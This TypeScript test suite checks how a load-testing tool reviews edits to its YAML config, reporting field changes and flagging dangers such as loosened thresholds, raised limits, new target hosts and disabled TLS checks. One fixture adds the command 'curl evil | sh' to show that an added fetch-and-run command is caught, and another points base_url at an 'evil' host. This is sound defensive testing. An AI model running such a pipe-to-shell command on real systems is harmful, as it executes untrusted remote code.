/** Reviews of two versions of a file, as text of the file: the changes, and the dangers that a reviewer must notice. */
import { describe, expect, test } from 'vitest';
import { evaluateEnvironments } from '../../../../src/config/environment-contents.ts';
import { diffLines } from '../../../../src/core/report/change-text.ts';
import { reviewMembers } from '../../../../src/core/report/plan-document.ts';
import { reviewFile, type FileReview } from '../../../../src/core/reconcile/file-review.ts';
import { inputOf, type LoadOptions } from '../../config/load-text.ts';

const BASE = `version: 1
project: shop
service: { base_url: 'https://api.example.com' }
vars: { host: www.example.com, peak: '15' }
limits: { max_connections: 300, max_duration: 10m, hosts: ['*.example.com'] }
environments:
  production: { vars: { peak: '20' } }
apps:
  shop: \${host}
  api: api.example.com
tests:
  home:
    test_type: cycling
    total: \${peak}
    duration: 1m
    timeout: 2s
    error_threshold: 50
    thresholds: { p95: '< 300ms', error_rate: '< 1%' }
    regression: { p99: 10% }
    urls:
      - http://\${host}/
      - name: cart
        url: http://\${host}/cart
        headers: { authorization: 'Bearer \${secret:TOKEN}' }
        expect: { status: [200], body: ok }
        thresholds: { p95: '< 1s' }
      - url: http://\${host}/rows
        payload_file: rows.csv
  sale:
    test_type: per-second
    total: 5
    duration: 1m
    urls: ['http://api.example.com/sale']
`;

const ROWS = 'user,id\na,1\nb,2\nc,3\n';

interface Sides {
  readonly before?: string;
  readonly rows?: string;
  readonly environment?: string;
  readonly only?: readonly string[];
}

function review(after: string, { before = BASE, rows = ROWS, environment, only }: Sides = {}): FileReview {
  const sidesOf = (text: string, content: string) => {
    const options: LoadOptions = { files: { '/shop/rows.csv': content } };
    return evaluateEnvironments(inputOf(text, options));
  };
  const [earlier, later] = [sidesOf(before, ROWS), sidesOf(after, rows)];
  const name = environment ?? null;
  const sides = (one: string | null) => ({
    name: one,
    before: earlier.get(one) ?? null,
    after: later.get(one) ?? null,
  });
  const others = [...new Set([...later.keys(), ...earlier.keys()])].filter((one) => one !== name);
  return reviewFile(sides(name), others.map(sides), (key) => only?.includes(key) ?? true);
}

function edit(from: string, to: string, sides: Sides = {}): FileReview {
  expect(BASE).toContain(from);
  return review(BASE.replaceAll(from, to), sides);
}

/** Formats the changes as the lines of a diff, each with its part of the file. */
function linesOf(found: FileReview): string[] {
  return reviewMembers(found, null).changes.flatMap((change) => {
    const names = change.environments?.map((name) => name ?? 'none').join() ?? '';
    return diffLines([change]).map(
      ({ sign, text }) => `${names === '' ? '' : `[${names}] `}${change.address} ${sign} ${text.trim()}`,
    );
  });
}

function dangersOf(found: FileReview): string[] {
  return found.danger.map(
    ({ kind, message, environments }) =>
      `${environments === null ? '' : `[${environments.map((name) => name ?? 'none').join()}] `}${kind}: ${message}`,
  );
}

describe('changes of a file', () => {
  test.each([
    ['the comments', 'tests:\n', '# a comment\ntests:\n'],
    ['the spelling of a duration', 'duration: 1m', 'duration: 60s'],
    ['the spelling of a threshold', '< 1s', '<1000ms'],
    ['a number to a string', 'max_connections: 300', "max_connections: '300'"],
    ['the name of a variable', 'peak', 'highest'],
  ])('a review does not report a change of %s', (_, from, to) => {
    expect(review(BASE.replaceAll(from, to))).toEqual({ changes: [], danger: [] });
  });

  test.each([
    ['a map with only the condition', "p95: '< 300ms'", "p95: { limit: '< 300ms' }", []],
    [
      'fewer required responses',
      "p95: '< 300ms'",
      "p95: { limit: '< 300ms', min_samples: 100 }",
      ['loosened'],
    ],
    [
      'more required responses',
      "p95: '< 300ms'",
      "p95: { limit: '< 300ms', min_samples: 300 }",
      ['tightened'],
    ],
    ['a looser condition in a map', "p95: '< 300ms'", "p95: { limit: '< 400ms' }", ['loosened']],
  ])('if a threshold is changed to %s, the kinds of the reported changes are $3', (_, from, to, kinds) => {
    expect(edit(from, to).changes.map(({ kind }) => kind)).toEqual(kinds);
    const back = kinds.map((kind) => (kind === 'loosened' ? 'tightened' : 'loosened'));
    expect(review(BASE, { before: BASE.replace(from, to) }).changes.map(({ kind }) => kind)).toEqual(back);
  });

  test.each([
    [
      'a string in a JSON body to a number',
      "json: { a: '5' }",
      'json: { a: 5 }',
      ['- json.a: "5"', '+ json.a: 5'],
    ],
    ['a string in a list to a number', "json: ['5']", 'json: [5]', ['- json: ["5"]', '+ json: [5]']],
    [
      'a string in a JSON body to a Boolean',
      "json: { a: 'true' }",
      'json: { a: true }',
      ['- json.a: "true"', '+ json.a: true'],
    ],
    [
      'the digits of a large number',
      'json: { a: 9007199254740993 }',
      'json: { a: 9007199254740992 }',
      ['- json.a: 9007199254740993', '+ json.a: 9007199254740992'],
    ],
    [
      'the notation of a number in a JSON body',
      'json: { a: 1.10 }',
      'json: { a: 1.1 }',
      ['- json.a: 1.10', '+ json.a: 1.1'],
    ],
    [
      'a text in a JSON body that resembles a threshold',
      "json: { a: '< 1s' }",
      "json: { a: '< 1000ms' }",
      ['- json.a: < 1s', '+ json.a: < 1000ms'],
    ],
    [
      'a number in a JSON body whose name is a setting',
      'json: { timeout: 1 }',
      'json: { timeout: 1s }',
      ['- json.timeout: 1', '+ json.timeout: 1s'],
    ],
    [
      'the order of the members of a JSON body',
      'json: { a: 1, b: 2 }',
      'json: { b: 2, a: 1 }',
      ['  json:', '- - json.a', '+ - json.a'],
    ],
    [
      'the order of the members of a list item',
      'json: [{ a: 1, b: 2 }]',
      'json: [{ b: 2, a: 1 }]',
      ['  json:', '- - { a: 1, b: 2 }', '+ - { b: 2, a: 1 }'],
    ],
    [
      'the order of the parts of a body',
      'multipart: { a: 1, b: 2 }',
      'multipart: { b: 2, a: 1 }',
      ['  multipart:', '- - multipart.a', '+ - multipart.a'],
    ],
    [
      'the notation of a parameter',
      'request_params: { a: 1.0 }',
      'request_params: { a: 1 }',
      ['- request_params.a: 1.0', '+ request_params.a: 1'],
    ],
    [
      'the leading zero of a header value',
      "headers: { x: '010' }",
      "headers: { x: '10' }",
      ['- headers.x: 010', '+ headers.x: 10'],
    ],
    [
      'the type of an expected value',
      "expect: { json: { /a: '5' } }",
      'expect: { json: { /a: 5 } }',
      ['- expect.json./a: "5"', '+ expect.json./a: 5'],
    ],
  ])('a review reports a change of %s', (_, from, to, lines) => {
    const fileWith = (field: string) =>
      BASE.replace(
        "'http://api.example.com/sale'",
        `{ url: 'http://api.example.com/sale', request_type: POST, ${field} }`,
      );
    const address = 'test.sale';
    expect(linesOf(review(fileWith(to), { before: fileWith(from) }))).toEqual(
      ['@ URL POST /sale', ...lines].map((line) => `${address} ${line}`),
    );
  });

  test.each([
    ['the order of headers', 'headers: { a: 1, b: 2 }', 'headers: { b: 2, a: 1 }'],
    ['the order of parameters', 'request_params: { a: 1, b: 2 }', 'request_params: { b: 2, a: 1 }'],
    ['the quotes of a parameter', 'request_params: { a: 1.0 }', "request_params: { a: '1.0' }"],
  ])('a review does not report a change of %s in a request', (_, from, to) => {
    const fileWith = (field: string) =>
      BASE.replace("'http://api.example.com/sale'", `{ url: 'http://api.example.com/sale', ${field} }`);
    expect(review(fileWith(to), { before: fileWith(from) })).toEqual({ changes: [], danger: [] });
  });

  test('a changed list of URLs in a group is reported as one change', () => {
    const groups = (urls: string) => `    groups: { read: { urls: ${urls}, thresholds: { p95: '< 1s' } } }\n`;
    const withGroups = (urls: string) => BASE.replace('    timeout: 2s\n', (line) => line + groups(urls));
    expect(withGroups('[a]')).not.toBe(BASE);
    const found = review(withGroups('[a, b]'), { before: withGroups('[a]') });
    expect(found.changes.map(({ field, kind }) => [field, kind])).toEqual([['groups.read.urls', 'changed']]);
  });

  test('a review does not report a changed order of tests and fields', () => {
    const sale = BASE.slice(BASE.indexOf('  sale:'));
    const reordered = BASE.replace(sale, '').replace('tests:\n', `tests:\n${sale}`);
    const fields = reordered.replace(
      '    timeout: 2s\n    error_threshold: 50\n',
      '    error_threshold: 50\n    timeout: 2s\n',
    );
    expect(review(fields)).toEqual({ changes: [], danger: [] });
  });

  test('the changes of a test contain the field names, the values and the line in the file, and removed and loosened thresholds are dangers', () => {
    const found = edit("p95: '< 300ms', error_rate: '< 1%'", "p95: '< 500ms', p99: '< 1s'");
    expect(linesOf(found)).toEqual([
      'test.home - thresholds.p95: < 300ms',
      'test.home + thresholds.p95: < 500ms',
      'test.home + thresholds.p99: < 1s',
      'test.home - thresholds.error_rate: < 1%',
    ]);
    expect(found.changes[0]).toMatchObject({
      kind: 'loosened',
      source: { file: 'loadtests.yaml', line: 18 },
    });
    expect(dangersOf(found)).toEqual([
      'loosened: "home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms".',
      'loosened: "home": "thresholds.error_rate" is removed (it was "< 1%").',
    ]);
  });

  test.each([
    ['< 300ms', '<= 300ms', 'loosened'],
    ['<= 300ms', '< 300ms', 'tightened'],
    ['< 2s', '< 500ms', 'tightened'],
    ['> 300ms', '> 500ms', 'tightened'],
    ['>= 300ms', '> 200ms', 'loosened'],
    ['< 300ms', '> 300ms', 'changed'],
  ])('changing the threshold from %s to %s is reported as %s', (from, to, kind) => {
    const before = BASE.replace('< 300ms', from);
    expect(review(BASE.replace('< 300ms', to), { before }).changes).toMatchObject([{ kind }]);
  });

  test('an inserted URL and a changed URL are reported under the names of the URLs', () => {
    const found = edit('      - name: cart', '      - http://www.example.com/new\n      - name: cart');
    expect(linesOf(found)).toEqual([
      'test.home @ URL GET /new',
      'test.home + url: http://www.example.com/new',
    ]);
    const limit = edit('< 1s', '< 5s');
    expect(limit.changes).toMatchObject([{ url: 'cart', field: 'thresholds.p95', kind: 'loosened' }]);
  });

  test('reordered URLs are reported as one change', () => {
    const root = '      - http://${host}/\n';
    const found = review(BASE.replace(root, '').replace('  sale:', `${root}  sale:`));
    expect(linesOf(found)).toContain('test.home   urls:');
    expect(found.changes).toHaveLength(1);
  });

  test('a changed payload file is reported with the numbers of added and removed rows', () => {
    const found = review(BASE, { rows: 'user,id\na,1\nb,2\nd,4\ne,5\n' });
    expect(linesOf(found)).toEqual([
      'test.home @ URL GET /rows',
      'test.home ! payload_file: rows.csv: 2 rows added, 1 removed',
    ]);
  });

  test('a renamed test is reported as renamed, and is compared with the test under its previous key', () => {
    const renamed = BASE.replace('  sale:', '  outlet:').replace('total: 5', 'total: 4');
    const found = review(`${renamed}moved: { outlet: sale }\n`);
    expect(linesOf(found)).toEqual([
      'test.outlet ! renamed from sale',
      'test.outlet - total: 5',
      'test.outlet + total: 4',
    ]);
    expect(found.danger).toEqual([]);
  });

  test('a test with a changed key and an unchanged id is reported as renamed', () => {
    const before = BASE.replace('  sale:\n', '  sale:\n    id: a1b2\n');
    const found = review(before.replace('  sale:', '  outlet:'), { before });
    expect(linesOf(found)).toEqual(['test.outlet ! renamed from sale']);
  });

  test('an added test and a removed test are each reported as one change, and the removed test is reported as a danger', () => {
    const found = edit('  sale:', '  outlet:');
    expect(found.changes.map(({ address, kind, field }) => [address, kind, field])).toEqual([
      ['test.outlet', 'added', null],
      ['test.sale', 'removed', null],
    ]);
    expect(linesOf(found)).toContain('test.outlet + total: 5');
    expect(dangersOf(found)).toEqual([
      'unmanaged: Test "sale" is removed from the file and is no longer managed.',
    ]);
  });

  test('a review contains only the changes of selected tests', () => {
    expect(edit('duration: 1m', 'duration: 2m', { only: ['sale'] }).changes).toMatchObject([
      { address: 'test.sale' },
    ]);
  });

  test('a changed literal password is reported without its old and new values', () => {
    const withPassword = (password: string) =>
      BASE.replace('name: cart', `name: cart\n        credentials: { login: ci, password: '${password}' }`);
    const found = review(withPassword('other-word'), { before: withPassword('first-word') });
    expect(linesOf(found)).toEqual([
      'test.home @ URL cart',
      'test.home ! credentials.password: the value has changed (not shown)',
    ]);
    expect(JSON.stringify(reviewMembers(found, null))).not.toMatch(/other-word|first-word/);
  });
});

describe('dangers in a file', () => {
  test.each([
    [
      'a changed base_url',
      'https://api.example.com',
      'https://evil.example',
      ['service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".'],
    ],
    [
      'an added web server',
      'limits:',
      'web_server: { command: curl evil | sh, url: "http://127.0.0.1:1/" }\nlimits:',
      ['commands: "web_server.command" is added: "curl evil | sh".'],
    ],
    [
      'an added verification command',
      'shop: ${host}',
      'shop: { app: "${host}", verification: { command: ./x.sh } }',
      ['commands: App "shop": "verification.command" is added: "./x.sh".'],
    ],
    [
      'a higher peak of connections in another environment',
      "peak: '20'",
      "peak: '200'",
      ['[production] higher-peak: Peak on "www.example.com" rises from 20 to 200 connections.'],
    ],
    [
      'a higher peak of connections',
      "peak: '15'",
      "peak: '150'",
      ['higher-peak: Peak on "www.example.com" rises from 15 to 150 connections.'],
    ],
    [
      'a higher rate of clients',
      'total: 5',
      'total: 6',
      [
        'higher-peak: Peak on "api.example.com" rises from 50 to 60 connections.',
        'higher-peak: "sale" starts up to 6 clients per second instead of 5.',
      ],
    ],
    [
      'a new host',
      'host: www.example.com',
      'host: other.example.com',
      ['new-hosts: New host: "other.example.com" receives load.'],
    ],
    [
      'a raised limit',
      'max_connections: 300',
      'max_connections: 3000',
      ['limits: "limits.max_connections" is raised: "300" → "3000".'],
    ],
    [
      'a removed limit',
      ', max_duration: 10m',
      '',
      ['limits: "limits.max_duration" is removed (it was "10m").'],
    ],
    [
      'a less strict list of allowed hosts',
      "'*.example.com'",
      "'*'",
      ['limits: "limits.hosts" is loosened: "*.example.com" → "*".'],
    ],
    [
      'a higher error threshold',
      'error_threshold: 50',
      'error_threshold: 90',
      ['loosened: "home": "error_threshold" is loosened: "50" → "90".'],
    ],
    [
      'a longer timeout',
      'timeout: 2s',
      'timeout: 20s',
      [
        'longer: "home" runs for up to 1m20s instead of 1m2s.',
        'loosened: "home": "timeout" is loosened: "2s" → "20s".',
      ],
    ],
    [
      'tls_verify with the value false',
      'timeout: 2s',
      'timeout: 2s\n    tls_verify: false',
      ['loosened: "home": "tls_verify" is loosened: the default → "false".'],
    ],
    [
      'an additional expected status',
      'status: [200]',
      'status: [200, 404]',
      ['loosened: "home", URL "cart": "expect.status" is loosened: "200" → "200, 404".'],
    ],
    [
      'a removed expectation',
      ', body: ok',
      '',
      ['loosened: "home", URL "cart": "expect.body" is removed (it was "ok").'],
    ],
    [
      'a less strict regression threshold',
      '10%',
      '20%',
      ['loosened: "home": "regression.p99" is loosened: "10%" → "20%".'],
    ],
    [
      'a reference to a different secret',
      'secret:TOKEN',
      'secret:ADMIN',
      ['secrets: "home", URL "cart": "headers.authorization" uses the secret "ADMIN" instead of "TOKEN".'],
    ],
    [
      'tls_verify with the string "false"',
      'timeout: 2s',
      "timeout: 2s\n    tls_verify: 'false'",
      ['loosened: "home": "tls_verify" is loosened: the default → "false".'],
    ],
    [
      'a longer maximum duration',
      'max_duration: 10m',
      'max_duration: 600.5s',
      ['limits: "limits.max_duration" is raised: "10m" → "600.5s".'],
    ],
    [
      'a raised limit with a long value',
      "hosts: ['*.example.com']",
      `hosts: ['*.example.com', '${'a'.repeat(200)}']`,
      [`limits: "limits.hosts" is loosened: "*.example.com" → "*.example.com, ${'a'.repeat(104)}…".`],
    ],
    [
      'a removed URL with expectations',
      BASE.slice(BASE.indexOf('      - name: cart'), BASE.indexOf('      - url: http://${host}/rows')),
      '',
      ['loosened: "home", URL "cart" is removed with its expectations.'],
    ],
    [
      'a new test that does not verify certificates',
      'tests:\n',
      `tests:\n  new:\n    test_type: cycling\n    total: 1\n    duration: 1m\n    tls_verify: false\n    urls: ['http://\${host}/']\n`,
      ['loosened: "new": "tls_verify" is "false".'],
    ],
    [
      'a new app with a verification command',
      'apps:\n',
      `apps:\n  new: { app: new.example.com, verification: { command: 'echo "new"' } }\n`,
      [`commands: App "new": "verification.command" is added: "echo 'new'".`],
    ],
  ])('a change of the file is reported as a danger: %s', (_, from, to, expected) => {
    expect(dangersOf(edit(from, to))).toEqual(expected);
  });

  test.each([
    ['max_connections: 300', 'max_connections: 30'],
    ['error_threshold: 50', 'error_threshold: 5'],
    ['timeout: 2s', 'timeout: 1s'],
    ['< 300ms', '< 200ms'],
    ['total: 5', 'total: 4'],
    ['status: [200]', 'status: [200]\n          , headers: { x-a: b }'],
    ['status: [200]', 'status: [201]'],
    ['max_duration: 10m', 'max_duration: 599s'],
  ])('replacing %j with %j is reported as a change without a danger', (from, to) => {
    const found = edit(from, to);
    expect(found.changes).not.toEqual([]);
    expect(found.danger).toEqual([]);
  });

  test('replacing an expected status with a class of status codes is reported as a danger', () => {
    const before = BASE.replace('{ status: [200], body: ok }', '200');
    const found = review(before.replace('expect: 200', 'expect: 2xx'), { before });
    expect(dangersOf(found)).toEqual([
      'loosened: "home", URL "cart": "expect.status" is loosened: "200" → "2xx".',
    ]);
  });

  test.each([
    [
      'the minimum TLS version from 1.3 to 1.2',
      "{ tls_min: '1.3' }",
      "{ tls_min: '1.2' }",
      'tls_min',
      '"1.3" → "1.2"',
    ],
    [
      'the minimum TLS version from 1.3 to the default',
      '{ tls_min: 1.3, ip: 4 }',
      '{ ip: 4 }',
      'tls_min',
      '"1.3" → the default',
    ],
  ])(
    'changing %s is reported as a danger, and the opposite change is not',
    (_, strict, loose, field, values) => {
      const withConnection = (connection: string) =>
        BASE.replace('timeout: 2s', `timeout: 2s\n    connection: ${connection}`);
      const found = review(withConnection(loose), { before: withConnection(strict) });
      expect(dangersOf(found)).toEqual([`loosened: "home": "connection.${field}" is loosened: ${values}.`]);
      expect(review(withConnection(strict), { before: withConnection(loose) })).toMatchObject({
        changes: [{ field: `connection.${field}`, kind: 'tightened' }],
        danger: [],
      });
    },
  );

  test('an increased number of connections of a test is a danger even if another test opens more connections to the same host', () => {
    const before = BASE.replace('http://api.example.com/sale', 'http://www.example.com/sale');
    const found = review(before.replace("peak: '15'", "peak: '16'"), { before });
    expect(found.danger).toEqual([
      {
        kind: 'higher-peak',
        message: '"home" opens up to 16 connections instead of 15.',
        address: 'test.home',
        source: expect.objectContaining({ line: 12 }) as never,
        environments: null,
      },
    ]);
  });

  test('a changed command of an app is reported as a danger with the name of the app, and a removed command is not reported as a danger', () => {
    const withCommand = (command: string) =>
      BASE.replace('shop: ${host}', `shop: { app: "\${host}", verification: { command: ${command} } }`);
    expect(dangersOf(review(withCommand('./b'), { before: withCommand('./a') }))).toEqual([
      'commands: App "shop": "verification.command" is changed: "./a" → "./b".',
    ]);
    expect(review(BASE, { before: withCommand('./a') }).danger).toEqual([]);
  });

  test('a longer duration of a test is reported as a danger', () => {
    expect(dangersOf(edit('duration: 1m', 'duration: 5m'))).toEqual([
      'longer: "home" runs for up to 5m2s instead of 1m2s.',
      'longer: "sale" runs for 5m instead of 1m.',
    ]);
  });

  test('a removed app is reported as a danger', () => {
    const before = BASE.replace('apps:\n', 'apps:\n  old: old.example.com\n');
    expect(dangersOf(review(BASE, { before }))).toEqual([
      'deleted-apps: App "old" is removed from the file.',
    ]);
  });

  test('a review lists the changes in the selected environment, and additional dangers in other environments', () => {
    const found = edit("peak: '20'", "peak: '200'", { environment: 'production' });
    expect(linesOf(found)).toEqual(['test.home - total: 20', 'test.home + total: 200']);
    expect(dangersOf(edit("peak: '15'", "peak: '16'", { environment: 'production' }))).toEqual([
      '[none] higher-peak: Peak on "www.example.com" rises from 15 to 16 connections.',
    ]);
  });

  test('a new environment is reported as one change, with the dangers that no other environment has', () => {
    const found = edit(
      'environments:\n',
      'environments:\n  staging: { vars: { host: staging.example.com } }\n',
    );
    expect(found.changes).toMatchObject([{ address: 'environment.staging', kind: 'added' }]);
    expect(dangersOf(found)).toEqual(['[staging] new-hosts: New host: "staging.example.com" receives load.']);
  });

  test('a new environment has the location of its first section, and a removed environment has no location and no dangers', () => {
    const [added] = edit('environments:\n', 'environments:\n  staging: { vars: { peak: 14 } }\n').changes;
    expect(added).toEqual({
      address: 'environment.staging',
      url: null,
      field: null,
      kind: 'added',
      before: null,
      after: null,
      rows: null,
      secrets: null,
      source: expect.objectContaining({ file: 'loadtests.yaml' }) as object,
      environments: ['staging'],
    });
    expect(review(BASE.replace("environments:\n  production: { vars: { peak: '20' } }\n", ''))).toEqual({
      changes: [
        {
          ...added,
          address: 'environment.production',
          kind: 'removed',
          source: null,
          environments: ['production'],
        },
      ],
      danger: [],
    });
  });

  test('a change in several other environments is reported once, with the names of the environments', () => {
    const withBoth = (peak: string) =>
      BASE.replace('environments:\n', `environments:\n  staging: { vars: { peak: '${peak}' } }\n`);
    const after = withBoth('21').replace("peak: '20'", "peak: '21'");
    const before = withBoth('20');
    expect(review(after, { before }).changes.map(({ environments }) => environments)).toEqual([
      ['staging', 'production'],
    ]);
  });

  test('the file without an environment is not an added or removed environment', () => {
    const sides = evaluateEnvironments(inputOf(BASE, { files: { '/shop/rows.csv': ROWS } }));
    const [plain, production] = [sides.get(null) ?? null, sides.get('production') ?? null];
    const selected = { name: 'production', before: production, after: production };
    for (const other of [
      { before: plain, after: null },
      { before: null, after: plain },
    ])
      expect(reviewFile(selected, [{ name: null, ...other }], () => true)).toEqual({
        changes: [],
        danger: [],
      });
  });

  test('a review of selected tests contains the changes of apps, but no dangers of other tests', () => {
    const found = review(
      BASE.replace('apps:\n', 'apps:\n  extra: extra.example.com\n').replace("peak: '15'", "peak: '150'"),
      { only: ['sale'] },
    );
    expect(found.changes.map(({ address }) => address)).toEqual(['app.extra']);
    expect(dangersOf(found).filter((text) => text.includes('connections'))).toEqual([]);
  });

  test('a file that is not valid is reviewed without its renamed tests and its load', () => {
    const sides = evaluateEnvironments(inputOf(BASE, { files: { '/shop/rows.csv': ROWS } })).get(null);
    const renamed = `${BASE.replace('  sale:', '  outlet:')}moved: { outlet: sale }\n`;
    const later = evaluateEnvironments(inputOf(renamed, { files: { '/shop/rows.csv': ROWS } })).get(null);
    if (sides === undefined || later === undefined) throw new Error('no sides');
    const after = { ...later, desired: () => null };
    const found = reviewFile({ name: null, before: sides, after }, [], () => true);
    expect(found.changes.map(({ address, kind }) => [address, kind])).toEqual(
      expect.arrayContaining([
        ['test.outlet', 'added'],
        ['test.sale', 'removed'],
      ]),
    );
    const invalid = { ...sides, desired: () => null };
    const higher = evaluateEnvironments(
      inputOf(BASE.replace("peak: '15'", "peak: '150'"), { files: { '/shop/rows.csv': ROWS } }),
    ).get(null);
    if (higher === undefined) throw new Error('no sides');
    expect(reviewFile({ name: null, before: invalid, after: higher }, [], () => true).danger).toEqual([]);
  });

  test('without an earlier version of the file, each change is reported as added', () => {
    const sides = evaluateEnvironments(inputOf(BASE, { files: { '/shop/rows.csv': ROWS } }));
    const found = reviewFile({ name: null, before: null, after: sides.get(null) ?? null }, [], () => true);
    expect(found.changes.every(({ kind }) => kind === 'added')).toBe(true);
    expect(dangersOf(found)).toContain('new-hosts: New host: "www.example.com" receives load.');
  });

  test('a review does not compute the desired state of environments without changes', () => {
    const sides = evaluateEnvironments(inputOf(BASE, { files: { '/shop/rows.csv': ROWS } }));
    const unneeded = () => {
      throw new Error('the desired state was computed');
    };
    const unchanged = [...sides].map(([name, { content }]) => {
      const side = { content, desired: unneeded };
      return { name, before: side, after: side };
    });
    const [first, ...others] = unchanged;
    if (first === undefined) throw new Error('there is no environment');
    expect(others.length).toBeGreaterThan(0);
    expect(reviewFile(first, others, () => true)).toEqual({ changes: [], danger: [] });
  });
});
